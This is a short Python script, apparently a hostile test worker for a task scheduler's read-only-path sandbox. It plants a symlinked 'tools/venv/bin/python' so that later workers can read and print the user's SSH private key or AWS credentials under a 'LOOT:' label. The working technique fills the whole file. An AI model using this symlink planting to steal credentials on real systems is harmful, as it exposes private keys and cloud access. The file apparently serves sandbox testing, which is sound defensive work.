"""A hostile worker against ``sandbox.ro_paths: ["tools/venv"]`` (a virtualenv the repository holds, shown
with the installs its ``bin`` links point to). Its first item lands ``tools/venv/bin/python``, a link to a
script of its own whose ``#!`` names a file of a folder of the hidden HOME (``HOME/.ssh/id_ed25519``: no
program, only a name). Once that is merged, every later attempt's sandbox is built from the checkout: the
worker of the next item prints the user's key if the sandbox shows it that folder.

``helper``: the link leads instead to a program of the user's beside their tokens (``HOME/.aws/helper``,
a ``credential_process``), and the worker prints ``HOME/.aws/credentials``.

Usage: ro_paths_plant.py HOME [helper] (the real HOME of the scheduler: an item's author knows it)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

home = Path(sys.argv[1])
helper = sys.argv[2:] == ["helper"]
key = home / ".aws" / "credentials" if helper else home / ".ssh" / "id_ed25519"
if os.environ["WAVEGIT_ITEM_ID"] == "PLANT":
    lib = Path("tools/venv/lib")
    lib.mkdir(parents=True)
    (lib / "python3").write_text(f"#!{key}\n")
    (lib / "python3").chmod(0o755)
    Path("tools/venv/bin").mkdir()
    Path("tools/venv/bin/python").symlink_to(home / ".aws" / "helper" if helper else "../lib/python3")
else:
    try:
        print("LOOT:", key.read_text())
    except OSError as error:
        print("no loot:", error)
    Path("src").mkdir(exist_ok=True)
    Path("src/x").write_text("ok\n")
